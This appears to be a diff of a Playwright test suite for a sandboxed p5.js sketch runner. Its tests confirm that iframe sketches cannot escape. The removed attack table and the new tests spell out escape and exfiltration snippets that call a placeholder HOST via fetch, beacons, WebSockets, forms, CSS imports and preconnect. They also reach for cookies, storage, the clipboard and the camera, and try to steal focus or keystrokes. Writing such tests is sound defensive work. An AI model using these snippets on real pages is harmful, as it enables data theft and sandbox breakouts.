@@ -1,33 +1,39 @@
-import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import type { Page } from '@playwright/test';
-import { expect, lines, look, openBench, runIn, test } from './player';
+import {
+	attempt,
+	expectUsable,
+	makeWitness,
+	runFresh,
+	inFramesOfTheirOwn
+} from './attacks/attempt';
+import { DEVICES } from './attacks/devices';
+import { LOADERS, NETWORK } from './attacks/network';
+import { DEPARTURES, NUISANCES } from './attacks/nuisances';
+import { REACH } from './attacks/reach';
+import { strangers } from './attacks/strangers';
+import { GUARD_RESETS, PORT_THEFTS, SPIES } from './attacks/tampering';
+import { expect, lines, look, openBench, test } from './player';
 
-let stranger: Server;
-let address = '';
-let visits = 0;
-let requests = 0;
-
-test.beforeAll(async () => {
-	stranger = createServer((_, response) => {
-		requests++;
-		response.end('secret');
-	});
-	// Even a connection without a request tells a stranger something.
-	stranger.on('connection', () => visits++);
-	await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve));
-	address = `127.0.0.1:${(stranger.address() as AddressInfo).port}`;
+// One worker, one page: the attacks are many and the page must stay itself through all of them.
+test.describe.configure({ mode: 'default' });
+let page: Page;
+test.beforeAll(async ({ browser, server }) => {
+	page = await browser.newPage();
+	await openBench(page, server.origin);
+	await makeWitness(page);
 });
-test.afterAll(() => void stranger.close());
+test.afterAll(() => page.close());
+test.afterEach(async ({ server }) => {
+	await expectUsable(page, server.origin);
+	await runFresh(page, 'function setup() { createCanvas(20, 20); console.log("honest"); }');
+	await expect.poll(() => lines(page)).toEqual(['honest']);
+});
 
-test('the frame is allowed scripts, sound and fullscreen, and nothing more', async ({
-	bench,
-	run
-}) => {
-	await run('function setup() {}');
-	await expect(bench.getByTitle('Canvas')).toBeVisible();
-	await expect(bench.locator('iframe')).toHaveCount(2);
-	for (const frame of await bench.locator('iframe').all()) {
+test('the frame is allowed scripts, sound and fullscreen, and nothing more', async () => {
+	await runFresh(page, 'function setup() {}');
+	await expect(page.getByTitle('Canvas')).toBeVisible();
+	await expect(page.locator('iframe')).toHaveCount(2);
+	for (const frame of await page.locator('iframe').all()) {
 		const names = await frame.evaluate((element) => element.getAttributeNames());
 		expect(
 			names
@@ -39,143 +45,162 @@ test('the frame is allowed scripts, sound and fullscreen, and nothing more', asy
 	}
 });
 
-/** Each tries one way out; its value is `out` when it got there. `HOST` is a stranger's address, `SAME` the page's own. */
-const ATTACKS: Record<string, string> = {
-	'the page around it': 'parent.document.title; return "out"',
-	'the page’s globals': 'top.bench.player; return "out"',
-	'the page’s place': 'top.location.href = "http://HOST/top"; await wait(300)',
-	'the element it is in': 'return window.frameElement ? "out" : "in"',
-	cookies:
-		'return document.cookie === undefined ? "in" : (document.cookie = "a=1", document.cookie ? "out" : "in")',
-	'local storage': 'localStorage.x = 1; return "out"',
-	'session storage': 'sessionStorage.x = 1; return "out"',
-	'a database':
-		'await new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = yes; r.onerror = no; }); return "out"',
-	caches: 'await caches.open("x"); return "out"',
-	'a service worker': 'await navigator.serviceWorker.register("blob:x"); return "out"',
-	'the page’s own origin': 'await fetch("SAME/bench"); return "out"',
-	fetch: 'await fetch("http://HOST/", { mode: "no-cors" }); return "out"',
-	XMLHttpRequest:
-		'await new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open("GET", "http://HOST/"); x.onload = yes; x.onerror = no; x.send(); }); return "out"',
-	'an image':
-		'await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "http://HOST/i.png"; }); return "out"',
-	'p5’s loaders':
-		'const i = await loadImage("http://HOST/i.png"); return i && i.width > 1 ? "out" : "in"',
-	'a style sheet':
-		'const s = document.createElement("style"); s.textContent = "@import url(http://HOST/a.css); body { background: url(http://HOST/b.png) } @font-face { font-family: f; src: url(http://HOST/f) } * { font-family: f }"; document.head.append(s); await wait(300)',
-	'a beacon': 'navigator.sendBeacon("http://HOST/", "x"); await wait(300)',
-	'a web socket':
-		'await new Promise((yes, no) => { const w = new WebSocket("ws://HOST/"); w.onopen = yes; w.onerror = no; }); return "out"',
-	'an event source':
-		'await new Promise((yes, no) => { const e = new EventSource("http://HOST/"); e.onopen = yes; e.onerror = no; }); return "out"',
-	WebRTC: 'new (window.RTCPeerConnection || window.webkitRTCPeerConnection)(); return "out"',
-	WebTransport: 'new WebTransport("https://HOST/"); return "out"',
-	'a worker of its own':
-		"const w = new Worker(URL.createObjectURL(new Blob([\"fetch('http://HOST/', { mode: 'no-cors' }).then(() => postMessage('out'), () => postMessage('in'))\"]))); return await new Promise((yes) => { w.onmessage = (e) => yes(e.data); })",
-	'a form':
-		'const f = document.createElement("form"); f.action = "http://HOST/"; document.body.append(f); f.submit(); await wait(300)',
-	'a window': 'return window.open("http://HOST/") ? "out" : "in"',
-	'a link that is followed':
-		'const a = document.createElement("a"); a.href = "http://HOST/"; a.target = "_blank"; a.ping = "http://HOST/ping"; document.body.append(a); a.click(); await wait(300)',
-	'an early connection':
-		'const l = document.createElement("link"); l.rel = "preconnect"; l.href = "http://HOST/"; document.head.append(l); await wait(500)',
-	'an early connection, written':
-		'document.body.innerHTML = "<link rel=preconnect href=http://HOST/>"; await wait(500)',
-	'an early connection, parsed':
-		'document.body.append(new DOMParser().parseFromString("<link rel=preconnect href=http://HOST/>", "text/html").querySelector("link")); await wait(500)',
-	'an early connection, renamed':
-		"document.body.append(new DOMParser().parseFromString(\"<h:link xmlns:h='http://www.w3.org/1999/xhtml' rel='preconnect' href='http://HOST/'/>\", \"text/xml\").documentElement); await wait(500)",
-	'an early connection, disguised':
-		'let n = 0; const l = document.createElement({ toString: () => (n++ ? "link" : "p") }); l.rel = "preconnect"; l.href = "http://HOST/"; document.head.append(l); await wait(300)',
-	'a nested page':
-		'const i = document.createElement("iframe"); document.body.append(i); new i.contentWindow.RTCPeerConnection(); return "out"',
-	'a nested page, written':
-		'document.body.insertAdjacentHTML("beforeend", "<iframe srcdoc=\'<script>new RTCPeerConnection()</script>\'></iframe>"); return window.length ? "out" : "in"',
-	'a written document': 'document.write("<iframe></iframe>"); return "out"',
-	'an unsafe template': 'document.body.setHTMLUnsafe("<iframe></iframe>"); return "out"',
-	'a message to the page': 'parent.postMessage({ type: "problem" }, "*"); return "in"',
-	'another frame of the page':
-		'for (let i = 0; i < parent.length; i++) if (parent[i] !== window) { parent[i].postMessage("skissa", "*", [new MessageChannel().port1]); try { parent[i].document; return "out" } catch {} } return "in"',
-	'the clipboard': 'await navigator.clipboard.readText(); return "out"',
-	'the camera': 'await navigator.mediaDevices.getUserMedia({ video: true }); return "out"',
-	'the place on earth':
-		'await new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)); return "out"',
-	'a notification': 'return (await Notification.requestPermission()) === "granted" ? "out" : "in"'
-};
+test('no sketch reaches the network', async () => {
+	const { all, leave } = await strangers(Object.keys(NETWORK));
+	const attacks = Object.entries(NETWORK).map(([name, text]) => [
+		name,
+		text.replaceAll('HOST', all[name]?.address ?? '')
+	]);
+	expect.soft(await attempt(page, Object.fromEntries(attacks))).toEqual([]);
+	const heard = Object.entries(all).filter(([, stranger]) => stranger.heard.length > 0);
+	leave();
+	expect.soft(heard.map(([name, stranger]) => [name, stranger.heard])).toEqual([]);
+});
 
-test.describe('one page', () => {
-	/** Every attack is a sketch in a frame of its own; the page around them stays, and must stay itself. */
-	let attacked: Page;
-	test.beforeAll(async ({ browser, server }) => {
-		attacked = await browser.newPage();
-		await openBench(attacked, server.origin);
-		await attacked.evaluate(() => Object.assign(window, { untouched: true }));
+for (const [what, attacks] of Object.entries({
+	'the page or the visitor': REACH,
+	devices: DEVICES
+}))
+	test(`no sketch reaches ${what}`, async ({ server }) => {
+		const texts = Object.entries(attacks).map(([name, text]) => [
+			name,
+			text.replaceAll('SAME', server.origin)
+		]);
+		expect(await attempt(page, Object.fromEntries(texts))).toEqual([]);
 	});
-	test.afterAll(() => attacked.close());
 
-	for (const [name, attack] of Object.entries(ATTACKS))
-		test(`a sketch does not reach ${name}`, async ({ server }) => {
-			visits = 0;
-			const text = attack.replaceAll('HOST', address).replaceAll('SAME', server.origin);
-			await runIn(
-				attacked,
-				`const wait = (ms) => new Promise((done) => setTimeout(done, ms));
-async function setup() {
-  let said = 'in';
-  try { said = (await (async () => { ${text} })()) ?? 'in'; } catch (error) {}
-  console.log(${JSON.stringify(name)}, said);
-}`
-			);
-			await expect.poll(async () => (await lines(attacked)).at(-1)).toBe(`${name} in`);
-			await attacked.waitForTimeout(100);
-			expect(visits).toBe(0);
-			expect(attacked.url()).toBe(`${server.origin}/bench`);
-			expect(await attacked.evaluate(() => 'untouched' in window)).toBe(true);
-			expect(attacked.context().pages()).toHaveLength(1);
-		});
+test('no loader of p5 reaches the network', async () => {
+	const { all, leave } = await strangers(Object.keys(LOADERS));
+	for (const [name, text] of Object.entries(LOADERS)) {
+		const code = text.replaceAll('HOST', all[name]?.address ?? '');
+		await runFresh(page, `async function setup() { createCanvas(20, 20); ${code} }`);
+		await expect.poll(async () => (await look(page)).problems.length).toBeGreaterThan(0);
+	}
+	expect(Object.values(all).flatMap(({ heard }) => heard)).toEqual([]);
+	leave();
 });
 
-test('a sketch that navigates itself away is replaced, and its request is never made', async ({
-	bench,
-	run,
-	watch
-}) => {
-	watch.allowConsole(/./);
-	watch.allowRequest(/./);
-	requests = 0;
-	await run(`function setup() { location.href = 'http://${address}/away?secret'; }`);
-	await expect
-		.poll(async () => (await look(bench)).state, { timeout: 12_000 })
-		.toBe('unresponsive');
-	// The browser may open a connection before it asks the policy; nothing is sent over it.
-	expect(requests).toBe(0);
-	await run('function setup() { console.log("back"); }');
-	await expect.poll(() => lines(bench)).toEqual(['back']);
+test('no sketch leads its frame elsewhere', async ({ server }) => {
+	const names = Object.keys(DEPARTURES);
+	const { all, leave } = await strangers(names);
+	const asked = server.requests.length;
+	const codes = Object.entries(DEPARTURES).map(([name, text]) =>
+		`function setup() { createCanvas(20, 20); setTimeout(() => { ${text} }, 300); setTimeout(() => console.log('still here'), 1500); }`
+			.replaceAll('HOST', all[name]?.address ?? '')
+			.replaceAll('SAME', server.origin)
+	);
+	await inFramesOfTheirOwn(page, codes, 10_000);
+	const heard = Object.entries(all).filter(([, stranger]) => stranger.heard.length > 0);
+	leave();
+	expect.soft(heard.map(([name, stranger]) => [name, stranger.heard])).toEqual([]);
+	expect(server.requests.slice(asked).filter((one) => one.includes('away'))).toEqual([]);
 });
 
-test('a sketch can neither take the port nor speak in the runtime’s name', async ({
-	bench,
-	run
-}) => {
-	await run(`const seen = [];
-MessagePort.prototype.postMessage = function (message) { seen.push(message); };
-addEventListener('message', (event) => seen.push(event.data), true);
-Array.prototype.push = new Proxy(Array.prototype.push, { apply(target, self, parts) { for (const part of parts) if (part instanceof MessagePort) seen.push(part); return Reflect.apply(target, self, parts); } });
-window.dispatchEvent(new MessageEvent('message', { data: 'skissa', source: parent, ports: [new MessageChannel().port1] }));
+test('a sketch that leaves is replaced', async () => {
+	await runFresh(page, 'function setup() { createCanvas(20, 20); location.href = "about:blank"; }');
+	await expect.poll(async () => (await look(page)).state, { timeout: 12_000 }).toBe('unresponsive');
+});
+
+test('no sketch takes the port', async () => {
+	const codes = Object.values(PORT_THEFTS).map(
+		(text) =>
+			`${SPIES}
 function setup() { createCanvas(20, 20); }
-function draw() { if (frameCount === 30) { console.log('seen', seen.filter((one) => one !== 'skissa' && one !== null).length); } }`);
-	await expect.poll(() => lines(bench)).toEqual(['seen 0']);
-	expect((await look(bench)).problems).toEqual([]);
+function draw() { if (frameCount === 5) describe('words'); }
+setTimeout(() => console.log(found.length > 0 ? 'out' : 'in'), 1500);
+${text}`
+	);
+	const results = await inFramesOfTheirOwn(page, codes, 10_000);
+	const names = Object.keys(PORT_THEFTS);
+	expect(
+		results.map(({ said }, at) => `${names[at]}: ${said.at(-1) ?? results[at]?.state}`)
+	).toEqual(names.map((name) => `${name}: in`));
 });
 
-test('a sketch cannot reset its guard', async ({ bench, run }) => {
-	await run(`const guards = Object.getOwnPropertyNames(window).filter((name) => /guard/.test(name));
-performance.now = () => 0; Date.now = () => 0;
-for (const name of guards) { try { delete window[name]; window[name] = () => {}; Object.defineProperty(window, name, { value: () => {} }); } catch {} }
-function setup() { createCanvas(20, 20); console.log(guards.length); }
-function draw() { while (frameCount > 2) { for (const name of guards) window[name].open?.({}); } }`);
-	await expect
-		.poll(async () => (await look(bench)).problems)
-		.toMatchObject([{ code: 'loop_too_long', line: 5 }]);
-	expect(await lines(bench)).toEqual(['1']);
+for (const [name, text] of Object.entries(GUARD_RESETS))
+	test(`no sketch winds back its guard by ${name}`, async () => {
+		await runFresh(
+			page,
+			`function spin() { while (frameCount > 2) { } }
+const guards = [...new Set(String(spin).match(/[\\w$]*guard[\\w$]*/gi) ?? [])];
+console.log(guards.length > 0);
+${text}
+function setup() { createCanvas(20, 20); }
+function draw() { spin(); }`
+		);
+		await expect
+			.poll(async () => (await look(page)).problems)
+			.toMatchObject([{ code: 'loop_too_long' }]);
+		expect(await lines(page)).toEqual(['true']);
+	});
+
+test('no sketch takes the keys a person types, nor holds them inside', async () => {
+	await runFresh(
+		page,
+		`function setup() { createCanvas(20, 20); const one = createInput(); setInterval(() => { if (!document.hasFocus()) steal(one.elt); }, 30);
+  let isBusy = false;
+  addEventListener('keydown', (event) => { event.preventDefault(); event.stopImmediatePropagation(); }, true);
+  addEventListener('focusout', () => { if (!isBusy) { isBusy = true; one.elt.focus(); isBusy = false; setTimeout(() => one.elt.focus()); } }, true); }
+function steal(field) {
+  field.focus(); field.select(); field.click(); window.focus(); field.reportValidity();
+  const label = document.createElement('label'); label.append(document.createElement('input')); document.body.append(label); label.click();
+  const dialog = document.createElement('dialog'); dialog.innerHTML = '<input autofocus>'; document.body.append(dialog); dialog.showModal();
+  const pop = document.createElement('div'); pop.popover = 'auto'; pop.innerHTML = '<input autofocus>'; document.body.append(pop); pop.showPopover();
+  for (const made of [label, dialog, pop]) made.remove();
+}`
+	);
+	await expect.poll(async () => (await look(page)).state).toBe('running');
+	const field = page.getByRole('textbox', { name: 'Field' });
+	await field.fill('');
+	await field.pressSequentially('these are mine', { delay: 20 });
+	await expect(field).toHaveValue('these are mine');
+	await page.getByTitle('Canvas').focus();
+	const isInside = () => page.evaluate(() => document.activeElement?.localName === 'iframe');
+	for (let presses = 0; presses < 8 && (presses === 0 || (await isInside())); presses++)
+		await page.keyboard.press('Tab');
+	expect(await isInside()).toBe(false);
 });
+
+test('a click on the canvas opens no window, no dialog, and takes neither screen nor pointer for good', async () => {
+	const dialogs: string[] = [];
+	page.on('dialog', (dialog) => {
+		dialogs.push(dialog.type());
+		void dialog.dismiss();
+	});
+	await runFresh(
+		page,
+		`function setup() { createCanvas(300, 300); }
+function mousePressed() {
+  window.open('about:blank'); document.body.requestPointerLock(); document.documentElement.requestFullscreen().catch(() => {});
+  alert('x'); window.print(); navigator.keyboard?.lock?.();
+}
+document.addEventListener('fullscreenchange', () => document.documentElement.requestFullscreen().catch(() => {}));
+addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'stay'; });`
+	);
+	await expect.poll(async () => (await look(page)).state).toBe('running');
+	await page.getByTitle('Canvas').click({ position: { x: 100, y: 100 } });
+	await page.waitForTimeout(500);
+	expect(await page.evaluate(() => document.pointerLockElement)).toBeNull();
+	await page.evaluate(() => document.exitFullscreen().catch(() => {}));
+	await page.waitForTimeout(500);
+	expect(await page.evaluate(() => document.fullscreenElement)).toBeNull();
+	expect(page.context().pages()).toHaveLength(1);
+	await page.reload();
+	await page.waitForFunction(() => window.bench !== undefined);
+	await makeWitness(page);
+	expect(dialogs).toEqual([]);
+});
+
+for (const [name, code] of Object.entries(NUISANCES))
+	test(`no sketch wears the page down with ${name}`, async ({ server }) => {
+		const before = await page.evaluate(() => history.length);
+		await runFresh(page, code);
+		await expect.poll(async () => (await look(page)).state).not.toBe('booting');
+		await page.waitForTimeout(500);
+		await expectUsable(page, server.origin);
+		const { problems, console: said, description } = await look(page);
+		expect(problems.length).toBeLessThanOrEqual(50);
+		expect(said.length).toBeLessThanOrEqual(500);
+		expect(description.length).toBeLessThanOrEqual(2000);
+		expect(await page.evaluate(() => history.length)).toBe(before);
+	});
